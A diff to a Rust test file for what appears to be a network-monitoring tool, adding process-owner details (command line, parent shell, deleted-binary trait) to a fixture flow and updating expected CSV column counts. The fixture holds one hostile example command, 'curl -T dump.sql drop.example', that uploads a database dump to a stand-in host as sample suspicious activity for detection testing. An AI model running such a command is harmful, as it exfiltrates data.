@@ -11,8 +11,8 @@ use crate::filter::Filter;
 use crate::model::tally::Count;
 use crate::model::{
     Alert, AlertState, Application, Confidence, Direction, Endpoint, Facts, Finding, FlowKey, Health, InterfaceId,
-    InterfaceInfo, Label, Mark, Name, NameSource, Owner, Protocol, Scope, Severity, Skip, Subject, TcpState, Timestamp,
-    Value, Verdict,
+    InterfaceInfo, Label, Mark, Name, NameSource, Owner, Parent, Protocol, Scope, Severity, Skip, Subject, TcpState,
+    Timestamp, Traits, Value, Verdict,
 };
 use crate::snapshot::{Agreement, Grouping, Rates, Row, RowId, Snapshot, Totals, Unit, field};
 
@@ -85,9 +85,13 @@ fn snapshot() -> Snapshot {
             pid: 4_411,
             uid: Some(33),
             unit: Some(Label::new("nginx.service")),
-            container: None,
             confidence: Confidence::Exact,
+            cmdline: Label::new("curl -T dump.sql drop.example"),
+            parents: [Parent { pid: 4_400, comm: Label::new("sh"), exe: Label::new("/bin/dash") }].into(),
+            traits: Traits::DELETED,
+            ..Owner::default()
         })),
+        owner_since: Some(START),
         state: TcpState::Established,
         verdict: Verdict::Unusual,
         score: 60,
@@ -102,8 +106,9 @@ fn snapshot() -> Snapshot {
         ..flow(Protocol::UDP, end("10.0.0.5", 5_353), end("10.0.0.2", 53), 90)
     };
     let ping = flow(Protocol::ICMP, end("10.0.0.5", 0), end("203.0.113.9", 0), 98);
-    let alert =
-        |id, state| Arc::new(Alert { id, state, first: START, last: START, count: 2, finding: Arc::new(finding()) });
+    let alert = |id, state| {
+        Arc::new(Alert { id, state, first: START, last: START, count: 2, finding: Arc::new(finding()), owner: None })
+    };
     let mut snapshot = Snapshot {
         at: START.plus(Duration::from_secs(5)),
         since: START,
@@ -284,7 +289,7 @@ fn a_table_and_csv_have_a_line_for_each_row() {
     let all: Vec<&str> = text.split("\r\n").collect();
     assert!(all[0].starts_with("type,ts_first,ts_last,proto,local_ip") && all[0].contains(",owner_exe,owner_comm,"));
     assert!(all[1].contains(",h2 http/1.1,") && all[1].ends_with(",first-contact,"), "{}", all[1]);
-    assert_eq!((all.len(), all[0].split(',').count(), all[1].split(',').count()), (5, 40, 40));
+    assert_eq!((all.len(), all[0].split(',').count(), all[1].split(',').count()), (5, 44, 44));
     let columns = [field("host").unwrap(), field("out").unwrap()];
     let text = printed(|out| csv::flows(out, &snapshot, &snapshot.rows, Grouping::Flow, &columns));
     assert_eq!(text.lines().nth(1), Some("203.0.113.9,48100000"));
